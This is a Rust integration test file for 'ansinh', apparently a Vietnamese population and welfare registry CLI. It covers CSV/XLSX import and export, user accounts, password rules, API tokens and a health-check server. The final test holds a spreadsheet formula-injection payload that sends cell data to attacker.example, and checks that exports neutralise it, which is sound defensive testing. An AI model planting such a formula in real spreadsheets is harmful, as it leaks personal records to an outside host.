//! The command line as scripts use it: exit codes, messages, files written.

// Tests state their expectations with unwrap and panic, helpers included (clippy.toml allows it
// only inside #[test] functions).
#![allow(clippy::unwrap_used, clippy::panic)]

mod backup;
mod history;
mod poverty;

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::path::Path;
use std::process::{Command, Output, Stdio};

mod payroll;

fn ansinh(db: &str, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_ansinh"))
        .arg("--database-url")
        .arg(db)
        .args(args)
        .env("ANSINH_LOG", "warn")
        .output()
        .expect("run ansinh")
}

fn text(o: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

fn sqlite(dir: &Path) -> String {
    format!("sqlite://{}", dir.join("t.sqlite").display())
}

#[test]
fn unknown_database_scheme_fails_with_a_message() {
    let o = ansinh("mysql://localhost/x", &["migrate"]);
    assert!(!o.status.success());
    assert!(text(&o).contains("mysql"), "{}", text(&o));
}

#[test]
fn generate_search_check_and_refuse_a_second_generate() {
    let dir = tempfile::tempdir().unwrap();
    let db = sqlite(dir.path());
    let o = ansinh(&db, &["generate", "--scale", "0.002", "--seed", "5"]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(text(&o).contains("nhân khẩu"));
    let o = ansinh(&db, &["search", "nguyen", "--limit", "3"]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(String::from_utf8_lossy(&o.stdout).lines().count() >= 3);
    let o = ansinh(&db, &["check"]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(text(&o).contains("Nghi trùng"));
    let o = ansinh(&db, &["generate", "--scale", "0.002"]);
    assert!(!o.status.success());
    assert!(text(&o).contains("chỉ sinh dữ liệu mẫu vào cơ sở dữ liệu trống"));
}

#[test]
fn import_reports_rows_writes_nothing_then_skips_bad_rows() {
    let dir = tempfile::tempdir().unwrap();
    let db = sqlite(dir.path());
    let households = dir.path().join("ho.csv");
    std::fs::write(
        &households,
        "Mã hộ,Mã xã/phường,Địa chỉ\nHO-1,19900,Số 1 Lê Lợi\n",
    )
    .unwrap();
    let o = ansinh(&db, &["import", "households", households.to_str().unwrap()]);
    assert!(o.status.success(), "{}", text(&o));

    let persons = dir.path().join("nk.csv");
    std::fs::write(
        &persons,
        "Số định danh,Họ và tên,Giới tính,Ngày sinh,Mã xã/phường,Mã hộ,Quan hệ với chủ hộ\n\
         046185000123,Nguyễn Thị Ái Vân,Nữ,12/03/1985,19900,HO-1,Chủ hộ\n\
         046085000124,Lê Văn Ba,Nam,31/02/1985,19900,HO-1,Chồng\n",
    )
    .unwrap();
    let o = ansinh(&db, &["import", "persons", persons.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    let out = text(&o);
    assert!(
        out.contains("dòng 3, cột Ngày sinh: ngày '31/02/1985' không tồn tại"),
        "{out}"
    );
    assert!(out.contains("Không ghi gì"), "{out}");
    let rejected = dir.path().join("nk.loi.csv");
    let body = std::fs::read_to_string(&rejected).unwrap();
    assert!(
        body.contains("Lỗi") && body.contains("Lê Văn Ba") && !body.contains("Ái Vân"),
        "{body}"
    );
    let o = ansinh(&db, &["search", "nguyen thi ai van"]);
    assert!(
        text(&o).contains("Không tìm thấy"),
        "nothing may be written: {}",
        text(&o)
    );

    let o = ansinh(
        &db,
        &[
            "import",
            "persons",
            persons.to_str().unwrap(),
            "--skip-bad-rows",
        ],
    );
    assert!(o.status.success(), "{}", text(&o));
    let o = ansinh(&db, &["search", "nguyen thi ai van"]);
    assert!(text(&o).contains("046185000123"), "{}", text(&o));

    let export = dir.path().join("xuat.xlsx");
    let o = ansinh(
        &db,
        &[
            "export",
            "persons",
            export.to_str().unwrap(),
            "--area",
            "19900",
        ],
    );
    assert!(o.status.success(), "{}", text(&o));
    assert!(std::fs::metadata(&export).unwrap().len() > 0);
}

#[test]
fn a_text_file_named_xlsx_is_refused_clearly() {
    let dir = tempfile::tempdir().unwrap();
    let db = sqlite(dir.path());
    let fake = dir.path().join("nk.xlsx");
    std::fs::write(&fake, "đây không phải tệp Excel").unwrap();
    let o = ansinh(&db, &["import", "persons", fake.to_str().unwrap()]);
    assert!(!o.status.success());
    assert!(text(&o).to_lowercase().contains("xlsx"), "{}", text(&o));
}

#[test]
fn templates_are_written_in_both_formats() {
    let dir = tempfile::tempdir().unwrap();
    let db = sqlite(dir.path());
    let csv = dir.path().join("mau.csv");
    let o = ansinh(
        &db,
        &["export", "persons", "--template", csv.to_str().unwrap()],
    );
    assert!(o.status.success(), "{}", text(&o));
    assert!(
        std::fs::read_to_string(&csv)
            .unwrap()
            .contains("Số định danh")
    );
    let xlsx = dir.path().join("mau.xlsx");
    let o = ansinh(
        &db,
        &["export", "households", "--template", xlsx.to_str().unwrap()],
    );
    assert!(o.status.success(), "{}", text(&o));
    // The two templates' example rows import cleanly, households first, as documented.
    let o = ansinh(&db, &["import", "households", xlsx.to_str().unwrap()]);
    assert!(o.status.success(), "{}", text(&o));
    let o = ansinh(&db, &["import", "persons", csv.to_str().unwrap()]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(text(&o).contains("Đã ghi 1 nhân khẩu"), "{}", text(&o));
}

#[test]
fn serve_answers_health_checks_and_stops_on_sigterm() {
    let dir = tempfile::tempdir().unwrap();
    let mut child = Command::new(env!("CARGO_BIN_EXE_ansinh"))
        .args([
            "--database-url",
            &sqlite(dir.path()),
            "serve",
            "--listen",
            "127.0.0.1:0",
        ])
        .env("ANSINH_LOG", "warn")
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
    let banner = lines.next().unwrap().unwrap();
    // "ansinh đang chạy tại http://127.0.0.1:PORT/ (…)"
    let addr = banner
        .split("http://")
        .nth(1)
        .unwrap()
        .split('/')
        .next()
        .unwrap()
        .to_string();
    for (path, expect) in [
        ("/healthz", "ok"),
        ("/readyz", "ready"),
        ("/dia-ban", "Phường Thuận An"),
    ] {
        let mut s = TcpStream::connect(&addr).unwrap();
        write!(
            s,
            "GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
        )
        .unwrap();
        let mut body = String::new();
        s.read_to_string(&mut body).unwrap();
        assert!(body.starts_with("HTTP/1.1 200"), "{path}: {body}");
        assert!(body.contains(expect), "{path}: {body}");
    }
    let pid = child.id().to_string();
    Command::new("kill").args(["-TERM", &pid]).status().unwrap();
    let status = child.wait().unwrap();
    assert!(status.success(), "graceful shutdown exits 0: {status:?}");
}

#[test]
fn works_on_postgres_through_database_url() {
    let Some(url) = ansinh_testkit::pg_database() else {
        return;
    };
    let o = ansinh(&url, &["generate", "--scale", "0.001", "--seed", "2"]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(text(&o).contains("(postgres)"), "{}", text(&o));
    let o = ansinh(&url, &["check"]);
    assert!(o.status.success(), "{}", text(&o));
}

#[test]
fn user_accounts_from_the_command_line() {
    let dir = tempfile::tempdir().unwrap();
    let db = sqlite(dir.path());
    let add = |password: &str, extra: &[&str]| {
        let mut args = vec![
            "user",
            "add",
            "canbo1",
            "--role",
            "commune_officer",
            "--name",
            "Lê Thị Hoa",
        ];
        args.extend_from_slice(extra);
        Command::new(env!("CARGO_BIN_EXE_ansinh"))
            .args(["--database-url", &db])
            .args(&args)
            .env("ANSINH_PASSWORD", password)
            .env("ANSINH_LOG", "warn")
            .output()
            .unwrap()
    };
    let o = add("ngắn", &["--areas", "19900"]);
    assert!(!o.status.success());
    assert!(text(&o).contains("ít nhất 10 ký tự"), "{}", text(&o));
    // The password rule, with its reason: the probe's two, the user name, the full name.
    for (weak, why) in [
        ("aaaaaaaaaa", "lặp lại một ký tự"),
        ("abcdefghij", "dãy ký tự liền nhau"),
        ("canbo1-2026-xa", "chứa tên đăng nhập"),
        ("Lê Thị Hoa 1990", "chứa họ tên"),
    ] {
        let o = add(weak, &["--areas", "19900"]);
        assert!(!o.status.success(), "{weak}");
        assert!(text(&o).contains(why), "{weak}: {}", text(&o));
    }
    let o = add("một mật khẩu đủ dài", &["--areas", "46"]);
    assert!(
        !o.status.success(),
        "a commune officer cannot be given the province"
    );
    let o = add("một mật khẩu đủ dài", &["--areas", "19900"]);
    assert!(o.status.success(), "{}", text(&o));
    let o = ansinh(&db, &["user", "list"]);
    assert!(
        text(&o).contains("canbo1") && text(&o).contains("Phường Thuận An"),
        "{}",
        text(&o)
    );
    let passwd = |password: &str| {
        Command::new(env!("CARGO_BIN_EXE_ansinh"))
            .args(["--database-url", &db, "user", "passwd", "canbo1"])
            .env("ANSINH_PASSWORD", password)
            .env("ANSINH_LOG", "warn")
            .output()
            .unwrap()
    };
    let o = passwd("abcdefghij");
    assert!(!o.status.success());
    assert!(text(&o).contains("dãy ký tự liền nhau"), "{}", text(&o));
    let o = passwd("đồng lúa chín vàng ven sông Hương");
    assert!(o.status.success(), "{}", text(&o));
    let o = ansinh(&db, &["user", "unlock", "canbo1"]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(text(&o).contains("Đã gỡ chặn đăng nhập"), "{}", text(&o));
    let o = ansinh(&db, &["user", "disable", "canbo1"]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(text(&ansinh(&db, &["user", "list"])).contains("đã khóa"));
}

#[test]
fn api_tokens_are_created_by_an_administrator_and_revoked() {
    let dir = tempfile::tempdir().unwrap();
    let db = sqlite(dir.path());
    let o = Command::new(env!("CARGO_BIN_EXE_ansinh"))
        .args([
            "--database-url",
            &db,
            "user",
            "add",
            "quantri",
            "--role",
            "admin",
            "--areas",
            "46",
            "--name",
            "Quản trị",
        ])
        .env("ANSINH_PASSWORD", "sổ tay của người gác cổng")
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", text(&o));
    let o = ansinh(
        &db,
        &[
            "token",
            "create",
            "Cổng DVC",
            "--role",
            "commune_officer",
            "--areas",
            "19900",
            "--by",
            "nobody",
        ],
    );
    assert!(!o.status.success());
    let o = ansinh(
        &db,
        &[
            "token",
            "create",
            "Cổng DVC",
            "--role",
            "commune_officer",
            "--areas",
            "19900",
            "--by",
            "quantri",
        ],
    );
    assert!(o.status.success(), "{}", text(&o));
    let out = String::from_utf8_lossy(&o.stdout).to_string();
    let secret = out.lines().last().unwrap().trim().to_string();
    assert_eq!(secret.len(), 64, "{out}");
    let list = text(&ansinh(&db, &["token", "list"]));
    assert!(
        list.contains("Cổng DVC") && list.contains("19900") && !list.contains(&secret),
        "{list}"
    );
    let id = list.split_whitespace().next().unwrap().to_string();
    assert!(ansinh(&db, &["token", "revoke", &id]).status.success());
    assert!(text(&ansinh(&db, &["token", "list"])).contains("đã thu hồi"));
}

#[test]
fn a_config_file_sets_the_database_and_flags_override_it() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("ansinh.toml");
    let db_path = dir.path().join("tu-tep.sqlite");
    std::fs::write(
        &config,
        format!(
            "database_url = \"sqlite://{}\"\n[web]\nsecure_cookies = true\n",
            db_path.display()
        ),
    )
    .unwrap();
    let o = Command::new(env!("CARGO_BIN_EXE_ansinh"))
        .args(["--config", config.to_str().unwrap(), "migrate"])
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", text(&o));
    assert!(db_path.exists(), "the file's database_url is used");
    std::fs::write(&config, "lisen = \"127.0.0.1:1\"\n").unwrap();
    let o = Command::new(env!("CARGO_BIN_EXE_ansinh"))
        .args(["--config", config.to_str().unwrap(), "migrate"])
        .output()
        .unwrap();
    assert!(!o.status.success());
    assert!(text(&o).contains("cấu hình"), "{}", text(&o));
}

/// A persons file with one good row and one whose birth date does not exist.
fn persons_with_a_bad_row(dir: &Path) -> std::path::PathBuf {
    let persons = dir.join("nk.csv");
    std::fs::write(
        &persons,
        "Họ và tên,Giới tính,Ngày sinh,Mã xã/phường\n\
         Nguyễn Thị Ái Vân,Nữ,12/03/1985,19900\n\
         Lê Văn Ba,Nam,31/02/1985,19900\n",
    )
    .unwrap();
    persons
}

#[test]
fn rejected_rows_are_written_in_the_format_their_file_name_says() {
    let dir = tempfile::tempdir().unwrap();
    let db = sqlite(dir.path());
    let persons = persons_with_a_bad_row(dir.path());
    // A dry run of the persons file, its rejected rows to the file named.
    let import = |name: &str| {
        let rejected = dir.path().join(name);
        let args = ["import", "persons", persons.to_str().unwrap(), "--dry-run"];
        let o = ansinh(
            &db,
            &[&args[..], &["--rejected", rejected.to_str().unwrap()]].concat(),
        );
        (o, rejected)
    };

    let (o, xlsx) = import("loi.XLSX");
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    let bytes = std::fs::read(&xlsx).unwrap();
    assert!(bytes.starts_with(b"PK"), "a CSV file under an .xlsx name");
    let limits = ansinh_files::Limits::default();
    let table = ansinh_files::read_table(&bytes, ansinh_files::Format::Xlsx, &limits).unwrap();
    assert_eq!(table.headers.last().unwrap(), "Lỗi");
    assert_eq!(table.rows.len(), 1);
    assert_eq!(table.rows[0].cells[0], "Lê Văn Ba");

    // And a .csv name gets CSV.
    let (o, csv) = import("loi.csv");
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    let body = std::fs::read_to_string(&csv).unwrap();
    assert!(body.contains("Lê Văn Ba,Nam,31/02/1985"), "{body}");

    // A name of no known format is refused before the file is read, saying what to do.
    let (o, txt) = import("loi.txt");
    assert!(!o.status.success(), "{}", text(&o));
    let out = text(&o);
    assert!(
        out.contains("loi.txt") && out.contains(".xlsx hoặc .csv"),
        "{out}"
    );
    // Neither read (no row reported) nor written.
    assert!(!out.contains("dòng 3") && !txt.exists(), "{out}");
}

#[test]
fn a_formula_stored_as_an_address_is_exported_and_rejected_as_text() {
    let dir = tempfile::tempdir().unwrap();
    let db = sqlite(dir.path());
    let payload = r#"=HYPERLINK("http://attacker.example/?d="&A1,"Xem")"#;
    let households = dir.path().join("ho.csv");
    let quoted = payload.replace('"', "\"\"");
    std::fs::write(
        &households,
        format!("Mã hộ,Mã xã/phường,Địa chỉ\nHO-1,19900,\"{quoted}\"\nHO-2,99999,\"{quoted}\"\n"),
    )
    .unwrap();
    let file = households.to_str().unwrap();
    let o = ansinh(&db, &["import", "households", file, "--skip-bad-rows"]);
    assert!(o.status.success(), "{}", text(&o));
    // The bad row (unknown commune) goes to the rejected CSV with its address neutralised.
    let rejected = std::fs::read_to_string(dir.path().join("ho.loi.csv")).unwrap();
    assert!(rejected.contains(&format!("\"'{quoted}\"")), "{rejected}");

    let export = dir.path().join("x.csv");
    let o = ansinh(&db, &["export", "households", export.to_str().unwrap()]);
    assert!(o.status.success(), "{}", text(&o));
    let body = std::fs::read_to_string(&export).unwrap();
    assert!(body.contains(&format!("\"'{quoted}\"")), "{body}");
    assert!(!body.contains(&format!(",\"{quoted}\"")), "{body}");
}
